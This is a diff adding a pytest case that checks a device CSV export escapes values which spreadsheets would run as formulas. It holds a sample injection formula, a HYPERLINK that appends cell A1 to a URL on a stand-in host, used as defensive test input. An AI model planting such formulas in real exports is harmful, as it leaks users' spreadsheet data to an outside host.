@@ -1,3 +1,6 @@
+import csv
+import io
+
 import pytest
 
 from tests import factories
@@ -128,3 +131,15 @@ def test_export_is_csv_with_a_header_and_one_row_per_device(world, it_client):
     lines = response.content.decode().strip().splitlines()
     assert lines[0].startswith("serial_number,manufacturer,model_number")
     assert len(lines) == 2 and world.device.serial_number in lines[1]
+
+
+def test_export_keeps_free_text_from_running_as_a_spreadsheet_formula(world, it_client):
+    formula = '=HYPERLINK("http://example.invalid/?x="&A1,"Klik")'
+    Device.objects.filter(pk=world.device.pk).update(location=formula, serial_number="@SUM(1+1)")
+    factories.DeviceFactory(municipality=world.municipality, serial_number="SN-PLAIN", location="Lager 2")
+    response = it_client.get("/api/v1/devices/export")
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    cells = [(row["serial_number"], row["location"]) for row in rows]
+    assert ("'@SUM(1+1)", f"'{formula}") in cells and ("SN-PLAIN", "Lager 2") in cells
+    dangerous = [cell for row in rows for cell in row.values() if cell[:1] in ("=", "+", "-", "@")]
+    assert dangerous == []
